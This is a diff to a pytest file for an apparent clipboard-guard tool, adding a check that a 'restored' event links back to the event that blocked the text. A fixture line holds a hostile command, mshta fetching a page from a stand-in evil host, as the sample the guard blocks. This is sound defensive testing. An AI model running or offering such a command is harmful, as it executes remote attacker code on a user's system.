@@ -14,6 +14,7 @@ import pytest
 from app.cli import main
 from app.detection import Engine
 from app.events import Event, EventKind
+from app.forwarding.ecs import event_uid
 from app.storage import EventStore
 
 MALICIOUS = "mshta https://evil.test/fix-error"
@@ -201,8 +202,16 @@ def test_restore_without_a_running_guard_uses_the_clipboard(data: Path, monkeypa
     code, out, _ = run(capsys, "restore", "--last", "--data-dir", str(data))
     assert code == 0 and copied == [MALICIOUS] and "back on the clipboard" in out
     store = EventStore.open(data)
-    assert store.query(limit=1)[0].kind == "restored"
+    restored = store.query(limit=1)[0]
+    blocked = store.get(restored.details["event_id"])
     store.close()
+    assert restored.kind == "restored" and blocked is not None
+    # a SIEM can join it to the event that blocked the text without the local id
+    assert restored.details["follows"] == {
+        "event_id": event_uid(blocked),
+        "id": blocked.id,
+        "kind": "clipboard_neutralized",
+    }
 
 
 def test_restore_refused_when_the_policy_forbids_paste_anyway(
